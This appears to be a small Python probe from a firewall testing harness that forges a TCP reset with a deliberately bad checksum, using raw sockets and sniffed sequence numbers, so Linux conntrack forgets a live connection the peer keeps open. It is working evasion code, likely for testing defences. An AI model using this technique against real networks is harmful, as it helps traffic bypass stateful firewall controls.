"""Makes conntrack forget a connection that goes on: a reset with a wrong checksum, which conntrack believes and the peer does not take."""
args = arguments("own")
tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
tap.settimeout(0.3)
sent, got, error = 0, None, None
try:
    live = socket.create_connection((args.to, 443), timeout=5)
    live.recv(100)
    port, place = live.getsockname()[1], None
    try:
        while True:
            seen = tap.recv(2000)
            if seen[12:14] == b"\x08\x00" and seen[23] == 6 and struct.unpack("!H", seen[34:36])[0] == port:
                place = seen[38:46]
    except OSError:
        pass
    ends = socket.inet_aton(args.own) + socket.inet_aton(args.to)
    reset = struct.pack("!HH8sBBHHH", port, 443, place, 0x50, 0x14, 1000, 0, 0)
    wrong = checksum(ends + struct.pack("!HH", 6, len(reset)) + reset) ^ 0x5555
    header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + ends
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(header + reset[:16] + struct.pack("!H", wrong) + reset[18:], (args.to, 0))
    live.settimeout(10)
    got = live.recv(100).decode()
    live.send(MARKER)
    sent = 1
except OSError as cause:
    error = cause
report(sent, got, error)
